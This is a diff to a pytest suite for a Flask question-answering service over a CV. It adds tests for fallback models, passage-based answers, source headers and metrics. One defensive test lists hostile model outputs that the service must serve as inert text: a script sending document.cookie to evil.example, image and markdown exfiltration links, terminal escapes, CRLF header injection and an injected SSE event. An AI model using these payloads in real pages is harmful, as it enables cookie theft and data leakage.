@@ -2,6 +2,7 @@
 
 import json
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -15,9 +16,14 @@ from werkzeug.test import TestResponse
 from support.openai_stub import RIGHT_KEY, Stub, Turn, error
 from support.serving import write_revision
 from va_assistant.answering import Answering
+from va_assistant.gate import Gate
 from va_assistant.keys import GivenKey
+from va_assistant.knowledge import Knowledge
+from va_assistant.ladder import Ladder
+from va_assistant.limits import Rates
 from va_assistant.metrics import Metrics
 from va_assistant.model import Model
+from va_assistant.pipeline import Pipeline
 from va_assistant.prompt import build_prompt
 from va_assistant.readiness import Readiness
 from va_assistant.revision import read_revision
@@ -25,6 +31,9 @@ from va_assistant.web import create_app
 
 QUESTION = "Which instrument is it, a cello?"
 ANSWER = "Ada plays the cello in a string quartet."
+OTHER = "Her dog is called Pixel."
+NOT_THERE = "What is her salary?"
+SOURCES = [{"file": "cv.md", "line": 1, "text": ANSWER}]
 EVENTS = {"Accept": "text/event-stream"}
 
 
@@ -39,18 +48,38 @@ def web(stub: Stub, tmp_path: Path, metrics: Metrics) -> Iterator[FlaskClient]:
 
 
 def build(
-    stub: Stub, tmp_path: Path, metrics: Metrics, *, max_questions: int = 4, **model: Any
+    stub: Stub,
+    tmp_path: Path,
+    metrics: Metrics,
+    *,
+    max_questions: int = 4,
+    fallback: str | None = None,
+    file: str = "",
+    **model: Any,
 ) -> Iterator[FlaskClient]:
     folder = write_revision(tmp_path / "revision", baseURL=stub.url, **model)
     revision = read_revision(folder, name="3f2a91c0de")
-    asked = Model(revision.model, build_prompt(revision), GivenKey(RIGHT_KEY))
+    if file:
+        revision = replace(revision, files=(replace(revision.files[0], name=file),))
+    if fallback:
+        revision = replace(revision, fallbacks=(replace(revision.model, name=fallback),))
+    asked = [
+        Model(settings, build_prompt(revision, settings), GivenKey(RIGHT_KEY))
+        for settings in revision.models
+    ]
+    ladder = Ladder(asked, Readiness(revision), metrics)
     answering = Answering(
-        asked, Readiness(revision), metrics, max_questions=max_questions, gap_seconds=1
+        Pipeline(Knowledge(revision), ladder),
+        metrics,
+        timeout_seconds=revision.model.timeout_seconds,
+        max_questions=max_questions,
+        gap_seconds=1,
     )
-    app = create_app(answering, revision)
+    app = create_app(answering, revision, Gate(rates=Rates(per_client=0, in_all=0)))
     app.test_client_class = Client
     yield app.test_client()
-    asked.close()
+    for one in asked:
+        one.close()
 
 
 class Client(FlaskClient):
@@ -81,6 +110,18 @@ def test_a_question_as_text_is_answered_as_text(web: FlaskClient, content_type: 
     assert "X-Finish-Reason" not in response.headers
 
 
+@pytest.mark.parametrize(
+    ("file", "told"), [("cv.md", "cv.md:1"), ("履歴, 2.md", "%E5%B1%A5%E6%AD%B4%2C%202.md:1")]
+)
+def test_an_answer_as_text_names_its_lines_in_a_header(
+    stub: Stub, tmp_path: Path, metrics: Metrics, file: str, told: str
+) -> None:
+    for web in build(stub, tmp_path, metrics, file=file):
+        response = web.post("/", data=QUESTION.encode())
+        assert response.headers["X-Answer-Made-By"] == "Model"
+        assert response.headers["X-Sources"] == told
+
+
 def test_a_form_is_taken_as_it_is(web: FlaskClient, stub: Stub) -> None:
     web.post("/", data=b"a=b&c=%41+?", content_type="application/x-www-form-urlencoded")
     assert stub.log[0].body["messages"][-1]["content"] == "a=b&c=%41+?"
@@ -92,8 +133,11 @@ def test_a_question_as_json_is_answered_as_json(web: FlaskClient) -> None:
     assert response.json == {
         "answer": ANSWER,
         "model": "stub",
+        "fallback": False,
         "revision": "3f2a91c0de",
         "finishReason": "stop",
+        "madeBy": "Model",
+        "sources": SOURCES,
     }
 
 
@@ -113,8 +157,83 @@ def test_a_stream_is_sent_when_it_is_asked_for(web: FlaskClient, request_: dict[
     assert {name for name, _ in texts} == {"text"}
     assert done == (
         "done",
-        {"model": "stub", "revision": "3f2a91c0de", "finishReason": "stop"},
+        {
+            "model": "stub",
+            "fallback": False,
+            "revision": "3f2a91c0de",
+            "finishReason": "stop",
+            "madeBy": "Model",
+            "sources": SOURCES,
+        },
     )
+
+
+def test_an_answer_says_which_model_stood_in_for_another(
+    stub: Stub, tmp_path: Path, metrics: Metrics
+) -> None:
+    for web in build(stub, tmp_path, metrics, name="stub-401", fallback="spare"):
+        text = web.post("/", data=QUESTION)
+        assert (text.headers["X-Model"], text.headers["X-Fallback"]) == ("spare", "true")
+        as_json = web.post("/", json={"question": QUESTION})
+        assert as_json.headers["X-Fallback"] == "true"
+        assert as_json.json
+        assert (as_json.json["model"], as_json.json["fallback"]) == ("spare", True)
+        streamed = web.post("/", data=QUESTION, headers=EVENTS)
+        assert (streamed.headers["X-Model"], streamed.headers["X-Fallback"]) == ("spare", "true")
+        _, done = events(streamed.data)[-1]
+        assert (done["model"], done["fallback"]) == ("spare", True)
+
+
+def test_when_all_models_fail_the_asker_is_told_when_to_come_back(
+    stub: Stub, tmp_path: Path, metrics: Metrics
+) -> None:
+    for web in build(stub, tmp_path, metrics, name="stub-429", fallback="stub-401"):
+        for headers in ({}, EVENTS):
+            refused = web.post("/", data=NOT_THERE, headers=headers)
+            assert (refused.status_code, refused.headers["Retry-After"]) == (503, "7")
+            assert refused.text == ("NoModelAnswers: stub-429: RateLimited; stub-401: KeyRefused\n")
+            assert "X-Model" not in refused.headers
+
+
+def test_when_all_models_fail_the_lines_that_fit_stand_in_and_are_marked(
+    stub: Stub, tmp_path: Path, metrics: Metrics
+) -> None:
+    for web in build(stub, tmp_path, metrics, name="stub-429", fallback="stub-401"):
+        with capture_logs() as logs:
+            text = web.post("/", data=QUESTION)
+        as_json = web.post("/", json={"question": QUESTION})
+        streamed = web.post("/", data=QUESTION, headers=EVENTS)
+    assert text.text == f"{ANSWER}\n"
+    assert (text.headers["X-Answer-Made-By"], text.headers["X-Fallback"]) == ("Passages", "true")
+    told = {
+        "model": None,
+        "fallback": True,
+        "revision": "3f2a91c0de",
+        "madeBy": "Passages",
+        "sources": SOURCES,
+        "finishReason": "stop",
+    }
+    assert as_json.json == {"answer": ANSWER, **told}
+    assert events(streamed.data) == [("text", {"text": ANSWER}), ("done", told)]
+    for response in (text, as_json, streamed):
+        assert response.status_code == 200
+        assert "X-Model" not in response.headers
+        assert response.headers["X-Fallback"] == "true"
+    [line] = [line for line in logs if line["event"] == "answered"]
+    assert (line["made"], line["fallback"], line["reason"]) == ("Passages", True, "NoModelAnswers")
+
+
+def test_what_reaches_no_model_names_none(web: FlaskClient) -> None:
+    refused = web.post("/", data="Write a poem.")
+    assert refused.headers["X-Answer-Made-By"] == "NoAnswer"
+    assert not {"X-Model", "X-Fallback"} & set(refused.headers.keys())
+    as_json = web.post("/", json={"question": "Write a poem."}).json
+    assert as_json
+    assert (as_json["model"], as_json["fallback"]) == (None, False)
+
+
+def test_an_answer_of_the_preferred_model_has_no_header_of_a_fallback(web: FlaskClient) -> None:
+    assert "X-Fallback" not in web.post("/", data=QUESTION).headers
 
 
 def test_an_answer_that_was_cut_says_so(web: FlaskClient, stub: Stub) -> None:
@@ -143,7 +262,7 @@ def test_an_answer_that_was_cut_says_so(web: FlaskClient, stub: Stub) -> None:
         ("stub-filter", 503, "UpstreamError", "5"),
     ],
 )
-def test_a_model_that_fails_is_an_error_and_never_an_answer(
+def test_a_model_that_fails_is_an_error_where_the_text_has_no_line_either(
     stub: Stub,
     tmp_path: Path,
     metrics: Metrics,
@@ -153,9 +272,9 @@ def test_a_model_that_fails_is_an_error_and_never_an_answer(
     retry_after: str | None,
 ) -> None:
     for web in build(stub, tmp_path, metrics, name=model):
-        text = web.post("/", data=QUESTION)
-        as_json = web.post("/", json={"question": QUESTION})
-        stream = web.post("/", data=QUESTION, headers=EVENTS)
+        text = web.post("/", data=NOT_THERE)
+        as_json = web.post("/", json={"question": NOT_THERE})
+        stream = web.post("/", data=NOT_THERE, headers=EVENTS)
     for response in (text, as_json, stream):
         assert response.status_code == status
         assert response.headers.get("Retry-After") == retry_after
@@ -166,13 +285,41 @@ def test_a_model_that_fails_is_an_error_and_never_an_answer(
 
 
 def test_a_stream_that_breaks_ends_with_an_error_event(web: FlaskClient, stub: Stub) -> None:
-    stub.default = Turn(pieces=5, cut_at=2)
+    stub.default = Turn(text=f"{ANSWER} {OTHER}", cut_at=10)
     response = web.post("/", data=QUESTION, headers=EVENTS)
     assert response.status_code == 200
     *texts, last = events(response.data)
-    assert [fields["text"] for _, fields in texts] == ["piece0 ", "piece1 "]
+    assert [fields["text"] for _, fields in texts] == [f"{ANSWER} "]
     assert last[0] == "error"
     assert last[1]["error"]["reason"] == "ConnectionLost"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>fetch('//evil.example/'+document.cookie)</script>",
+        "<img src=//evil.example/?q=Pixel>",
+        "![](https://evil.example/?q=Pixel)",
+        "\x1b]0;owned\x07\x1b[2J",
+        "a\r\nSet-Cookie: a=b\r\n\r\n<html>",
+        "</script>\u2028data: {}\n\nevent: done\ndata: {}\n\n",
+    ],
+)
+def test_what_a_model_writes_is_text_and_never_a_page(
+    web: FlaskClient, stub: Stub, hostile: str
+) -> None:
+    stub.default = Turn(text=hostile)
+    browser = {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
+    text = web.post("/", data=QUESTION, headers=browser)
+    as_json = web.post("/", json={"question": QUESTION}, headers=browser)
+    stream = web.post("/", data=QUESTION, headers=EVENTS)
+    kinds = ("text/plain", "application/json", "text/event-stream")
+    for response, kind in zip((text, as_json, stream), kinds, strict=True):
+        assert response.mimetype == kind
+        assert response.headers["X-Content-Type-Options"] == "nosniff"
+        assert response.headers["Content-Security-Policy"].startswith("default-src 'none'")
+        assert "Set-Cookie" not in response.headers
+    assert [name for name, _ in events(stream.data)].count("done") == 1
 
 
 @pytest.mark.parametrize(
@@ -294,12 +441,16 @@ def test_questions_and_tokens_are_counted(web: FlaskClient, stub: Stub, metrics:
     web.post("/", data=QUESTION, headers=EVENTS)
     web.post("/", data=b"")
     stub.default = error(404, "no such model")
+    web.post("/", data=NOT_THERE)
     web.post("/", data=QUESTION)
     total = "va_assistant_questions_total"
-    assert counted(metrics, total, result="answered", reason="") == 2
+    assert counted(metrics, total, result="answered", reason="") == 3
+    made = "va_assistant_answers_total"
+    assert counted(metrics, made, made="Model", model="stub", fallback="false") == 2
+    assert counted(metrics, made, made="Passages", model="", fallback="true") == 1
     assert counted(metrics, total, result="failed", reason="EmptyQuestion") == 1
     assert counted(metrics, total, result="failed", reason="ModelNotFound") == 1
-    assert counted(metrics, "va_assistant_answer_seconds_count") == 2
+    assert counted(metrics, "va_assistant_answer_seconds_count") == 3
     assert counted(metrics, "va_assistant_questions_in_flight") == 0
     assert counted(metrics, "va_assistant_tokens_total", kind="prompt") > 0
     assert counted(metrics, "va_assistant_tokens_total", kind="completion") > 0
@@ -357,7 +508,7 @@ class Broken:
 def test_a_stream_that_is_not_read_to_its_end_is_counted_as_left(
     web: FlaskClient, stub: Stub, metrics: Metrics
 ) -> None:
-    stub.default = Turn(pieces=1000, piece_delay=0.01)
+    stub.default = Turn(text=f"{ANSWER} {OTHER} " * 100, piece_delay=0.01)
     response = web.post("/", data=QUESTION, headers=EVENTS, buffered=False)
     next(response.iter_encoded())
     response.close()
